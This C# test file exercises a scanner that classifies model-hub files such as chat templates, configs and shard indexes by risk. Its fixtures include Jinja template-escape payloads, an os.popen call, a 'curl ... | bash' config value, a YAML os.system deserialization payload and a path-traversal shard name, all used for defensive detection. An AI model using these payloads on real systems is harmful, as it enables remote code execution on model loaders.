using System.Text.Json;
using HubTasks.Audit.Files;

namespace HubTasks.Tests.Audit.Files;

public sealed class TextTests
{
    [Theory]
    [InlineData("{% for message in messages %}{{ message['role'] + ': ' + message.content | trim }}{% endfor %}")]
    [InlineData(
        "{%- set ns = namespace(found=false) -%}{%- if tools is defined and tools is not none %}{{- tools | tojson(indent=4) }}{%- endif %}"
    )]
    [InlineData(
        "{% macro render(x) %}{{ x }}{% endmacro %}{{ render(messages[0]['content'].split('</think>')[-1].lstrip('\\n')) }}"
    )]
    [InlineData("{{ raise_exception('roles must alternate') }}{{ strftime_now('%d %b %Y') }}")]
    [InlineData("{% raw %}{{ ''.__class__ }}{% endraw %}")]
    [InlineData("{# ''.__class__ #}plain text __class__")]
    [InlineData(
        "{% generation %}{{ messages | selectattr('role', 'equalto', 'user') | map(attribute='content') | list | length }}{% endgeneration %}"
    )]
    public void A_template_that_formats_messages_is_safe(string template) =>
        Checked.Is(Verdict.Safe, Checked.File("chat_template.jinja", template));

    [Theory]
    [InlineData("{{ ''.__class__.__mro__[1].__subclasses__() }}")]
    [InlineData("{{ ''['__class__'] }}")]
    [InlineData("{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}")]
    [InlineData("{{ ''['_' ~ '_class_' ~ '_'] }}")]
    [InlineData("{{ ''|attr('x') }}")]
    [InlineData("{{ lipsum.x }}")]
    [InlineData("{{ cycler }}")]
    [InlineData("{{ self.x }}")]
    [InlineData("{% include 'x' %}")]
    [InlineData("{% import 'x' as y %}")]
    [InlineData("{{ messages|map(attribute='__class__')|list }}")]
    [InlineData("{{ x.os.popen('id') }}")]
    [InlineData("{%- if x -%}{{- request -}}{%- endif -%}")]
    public void A_way_out_of_a_template_is_dangerous(string template)
    {
        Checked.Is(Verdict.Dangerous, Checked.File("chat_template.jinja", template));
        Checked.Is(
            Verdict.Dangerous,
            Checked.File("tokenizer_config.json", JsonSerializer.Serialize(new { chat_template = template }))
        );
        Checked.Is(
            Verdict.Dangerous,
            Checked.File(
                "tokenizer_config.json",
                JsonSerializer.Serialize(new { chat_template = new[] { new { name = "a", template } } })
            )
        );
    }

    [Theory]
    [InlineData("{{ frobnicate(x) }}")]
    [InlineData("{{ x|frobnicate }}")]
    [InlineData("{{ x.frobnicate() }}")]
    [InlineData("{% frobnicate %}")]
    [InlineData("{% for i in range(100000000) %}{% endfor %}")]
    [InlineData("{{ unclosed")]
    [InlineData("{{ 'unclosed }}")]
    public void What_templates_do_not_need_is_suspicious(string template) =>
        Checked.Is(Verdict.Suspicious, Checked.File("chat_template.jinja", template));

    [Theory]
    [InlineData("""{"model_type":"bert","hidden_size":12}""", Verdict.Safe)]
    [InlineData("""{"auto_map":{"AutoModel":"modeling_x.XModel"}}""", Verdict.Suspicious)]
    [InlineData("""{"auto_map":{"AutoTokenizer":["tok.Slow",null]}}""", Verdict.Suspicious)]
    [InlineData("""{"auto_map":{"AutoModel":"org/other--modeling_x.XModel"}}""", Verdict.Dangerous)]
    [InlineData("""{"vision_config":{"auto_map":{"AutoModel":"org/other--m.X"}}}""", Verdict.Dangerous)]
    [InlineData("""{"trust_remote_code":true}""", Verdict.Suspicious)]
    [InlineData("""{"_name_or_path":"org/base"}""", Verdict.Safe)]
    [InlineData("""{"api_key":"abcd"}""", Verdict.Suspicious)]
    [InlineData("""{"x":"hf_abcdefghijklmnopqrstuvwxyzABCDEFGH"}""", Verdict.Suspicious)]
    [InlineData("""{"setup":"curl http://host.invalid | bash"}""", Verdict.Suspicious)]
    [InlineData("""{"a":NaN}""", Verdict.Unscanned)]
    public void A_configuration_is_data_until_it_names_code(string json, Verdict expected) =>
        Checked.Is(expected, Checked.File("config.json", json));

    [Fact]
    public void A_reference_to_another_repository_is_a_note() =>
        Checked.Has("HUB3503", Verdict.Safe, Checked.File("config.json", """{"_name_or_path":"org/base"}"""));

    [Fact]
    public void The_index_of_shards_names_files_beside_it()
    {
        var good = Checked.File(
            "model.safetensors.index.json",
            """{"weight_map":{"a":"model-1.safetensors","b":"model-2.safetensors"}}"""
        );
        var evil = Checked.File("model.safetensors.index.json", """{"weight_map":{"a":"../model.safetensors"}}""");

        Checked.Is(Verdict.Safe, good);
        Assert.Equal(["model-1.safetensors", "model-2.safetensors"], good.Companions);
        Checked.Is(Verdict.Dangerous, evil);
    }

    [Fact]
    public void A_pipeline_that_names_a_module_of_the_repository_is_suspicious()
    {
        Checked.Is(
            Verdict.Safe,
            Checked.File("model_index.json", """{"_class_name":"P","unet":["diffusers","UNet2DConditionModel"]}""")
        );
        Checked.Is(
            Verdict.Suspicious,
            Checked.File("model_index.json", """{"_class_name":"P","unet":["my_module","UNet"]}""")
        );
    }

    [Theory]
    [InlineData("README.md", "# Card", Verdict.Safe)]
    [InlineData("merges.txt", "#version: 0.2\na b", Verdict.Safe)]
    [InlineData("modeling_x.py", "class X: pass", Verdict.Suspicious)]
    [InlineData("run", "#!/bin/sh\nid", Verdict.Suspicious)]
    [InlineData("setup.yaml", "a: !!python/object/apply:os.system [id]", Verdict.Dangerous)]
    [InlineData("model.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:0\n", Verdict.Invalid)]
    [InlineData("logo.png", "\u0001\u0002\u0003\u0004", Verdict.Unscanned)]
    [InlineData("model.bin", "\u0001\u0002\u0003\u0004", Verdict.Unscanned)]
    public void Other_files_go_by_what_they_are(string name, string text, Verdict expected) =>
        Checked.Is(expected, Checked.File(name, text));

    [Fact]
    public void A_program_is_dangerous_and_an_empty_model_is_invalid()
    {
        Checked.Is(Verdict.Dangerous, Checked.File("lib.bin", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0]));
        Checked.Is(Verdict.Invalid, Checked.File("model.pt", Array.Empty<byte>()));
        Checked.Is(Verdict.Safe, Checked.File(".gitkeep", Array.Empty<byte>()));
    }

    [Fact]
    public void Every_rule_has_a_section_and_a_name_of_its_own()
    {
        var page = File.ReadAllText(Repository.PathTo("docs/diagnostics.md"));

        Assert.Equal(FileRules.All.OrderBy(rule => rule.Code, StringComparer.Ordinal), FileRules.All);
        Assert.Distinct(FileRules.All.Select(rule => rule.Slug));
        Assert.All(
            FileRules.All,
            rule => Assert.Contains($"### {rule.Code} {rule.Slug}\n", page, StringComparison.Ordinal)
        );
    }
}
